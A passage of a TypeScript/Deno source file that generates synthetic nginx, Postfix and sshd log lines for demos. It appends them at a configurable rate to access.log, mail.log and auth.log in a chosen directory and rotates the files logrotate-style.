      return `${a}.${this.#int(0, 255)}.${this.#int(0, 255)}.${this.#int(1, 254)}`;
    }
  }

  #ipv6(): string {
    const prefix = this.#pick(["2a01", "2a02", "2001:41d0", "2600:1f18", "2607:f8b0", "2a03:2880"]);
    const groups = Array.from({ length: 3 }, () => this.#int(0, 0xffff).toString(16));
    return `${prefix}:${groups.join(":")}::${this.#int(1, 0xffff).toString(16)}`;
  }

  #hex(length: number): string {
    let out = "";
    for (let i = 0; i < length; i++) out += "0123456789ABCDEF"[Math.floor(this.#random() * 16)];
    return out;
  }

  #base64(length: number): string {
    const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let out = "";
    for (let i = 0; i < length; i++) out += alphabet[Math.floor(this.#random() * 64)];
    return out;
  }

  #int(min: number, max: number): number {
    return min + Math.floor(this.#random() * (max - min + 1));
  }

  #pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.#random() * items.length)];
  }

  #weighted<T>(choices: [T, number][]): T {
    const total = choices.reduce((sum, [, weight]) => sum + weight, 0);
    let r = this.#random() * total;
    for (const [value, weight] of choices) {
      r -= weight;
      if (r < 0) return value;
    }
    return choices[choices.length - 1][0];
  }

  // Box-Muller; latencies are roughly log-normal.
  #gaussian(): number {
    const u = 1 - this.#random();
    return Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * this.#random());
  }
}

function pad(n: number): string {
  return String(n).padStart(2, "0");
}

function hms(t: Date): string {
  return `${pad(t.getUTCHours())}:${pad(t.getUTCMinutes())}:${pad(t.getUTCSeconds())}`;
}

// Postfix prints delays with two significant decimals and drops trailing zeros.
function fmt(seconds: number): string {
  if (seconds >= 10) return String(Math.round(seconds));
  return String(Number(seconds.toFixed(seconds < 1 ? 2 : 1)));
}

/** Options of {@linkcode writeDemoLogs}. */
export interface WriteDemoLogsOptions {
  /** Directory that gets `access.log`, `mail.log` and `auth.log` (created if missing). */
  dir: string;
  /**
   * Log entries per second over all three files: about 80% nginx lines, 12% sshd
   * lines and 8% Postfix transactions (several lines each).
   */
  ratePerSecond: number;
  /** Rotate each file this often by rename-and-create (`access.log` → `access.log.1`). */
  rotateEveryMs?: number;
  /** Rotated generations kept (`.1` … `.keep`); older ones are overwritten. */
  keep?: number;
  /** Stops writing; the promise resolves once files are closed. */
  signal: AbortSignal;
  /** Generator options (seed, clock, host name, nginx format). */
  generator?: LogGeneratorOptions;
  /** Called with the lines of each write, before they are written (to count what they make). */
  onLines?: (file: "access.log" | "mail.log" | "auth.log", lines: string[]) => void;
}

const FILES = ["access.log", "mail.log", "auth.log"] as const;

/**
 * Lines {@linkcode writeDemoLogs} wrote to each file, rotated generations included.
 *
 * @example
 * ```ts
 * import type { DemoLogCounts } from "@eventstorm/source-demo";
 * const counts: DemoLogCounts = { access: 0, mail: 0, auth: 0, rotations: 0 };
 * ```
 */
export interface DemoLogCounts {
  /** nginx lines in `access.log`: one request each. */
  access: number;
  /** Postfix lines in `mail.log`. */
  mail: number;
  /** sshd lines in `auth.log`. */
  auth: number;
  /** Rotations of all three files. */
  rotations: number;
}

/**
 * Appends generated lines to `dir/access.log`, `dir/mail.log` and `dir/auth.log`
 * at a steady rate and rotates them the way logrotate does without
 * `copytruncate`: rename to `.1` (shifting older ones up) and create a new file.
 * Resolves with the counts of lines written when `signal` aborts.
 *
 * @example
 * ```ts ignore
 * import { writeDemoLogs } from "@eventstorm/source-demo";
 * const stop = new AbortController();
 * setTimeout(() => stop.abort(), 5000);
 * await writeDemoLogs({ dir: "/tmp/demo-logs", ratePerSecond: 50, signal: stop.signal });
 * ```
 */
export async function writeDemoLogs(options: WriteDemoLogsOptions): Promise<DemoLogCounts> {
  const { dir, signal, rotateEveryMs = 60_000, keep = 2 } = options;
  if (!(options.ratePerSecond > 0)) throw new RangeError("ratePerSecond must be positive");
  if (!(rotateEveryMs > 0)) throw new RangeError("rotateEveryMs must be positive");
  if (!Number.isInteger(keep) || keep < 1) throw new RangeError("keep must be a whole number ≥ 1");
  const seed = options.generator?.seed ?? Date.now();
  const generator = new LogGenerator({ ...options.generator, seed });
  const mix = mulberry32(seed ^ 0x5bd1e995);
  await Deno.mkdir(dir, { recursive: true });
  const open = (name: string) =>
    Deno.open(`${dir}/${name}`, { append: true, create: true, write: true });
  const files = await Promise.all(FILES.map(open));
  const encoder = new TextEncoder();
  const started = performance.now();
  let lastRotation = started;
  let written = 0;
  const counts: DemoLogCounts = { access: 0, mail: 0, auth: 0, rotations: 0 };
  try {
    while (!signal.aborted) {
      const now = performance.now();
      const target = Math.floor(((now - started) / 1000) * options.ratePerSecond);
      // Catch up after a stall, but never by more than a second's worth at once.
      written = Math.max(written, target - Math.ceil(options.ratePerSecond));
      const chunks: string[][] = [[], [], []];
      for (; written < target; written++) {
        const r = mix();
        if (r < 0.8) chunks[0].push(generator.nginxLine());
        else if (r < 0.88) chunks[1].push(...generator.postfixTransaction());
        else chunks[2].push(generator.sshdLine());
      }
      chunks.forEach((lines, i) => lines.length > 0 && options.onLines?.(FILES[i], lines));
      await Promise.all(chunks.map(async (lines, i) => {
        if (lines.length > 0) await writeAll(files[i], encoder.encode(lines.join("\n") + "\n"));
      }));
      counts.access += chunks[0].length;
      counts.mail += chunks[1].length;
      counts.auth += chunks[2].length;
      if (now - lastRotation >= rotateEveryMs) {
        lastRotation = now;
        for (let i = 0; i < FILES.length; i++) {
          files[i].close();
          await rotate(`${dir}/${FILES[i]}`, keep);
          files[i] = await open(FILES[i]);
        }
        counts.rotations++;
      }
      await sleep(Math.min(100, rotateEveryMs), signal);
    }
  } finally {
    for (const file of files) file.close();
  }
  return counts;
}

async function rotate(path: string, keep: number): Promise<void> {
  for (let i = keep - 1; i >= 1; i--) {
    try {
      await Deno.rename(`${path}.${i}`, `${path}.${i + 1}`);
    } catch (error) {
      if (!(error instanceof Deno.errors.NotFound)) throw error;
    }
  }
  await Deno.rename(path, `${path}.1`);
}

async function writeAll(file: Deno.FsFile, bytes: Uint8Array): Promise<void> {
  let offset = 0;
  while (offset < bytes.length) offset += await file.write(bytes.subarray(offset));
}
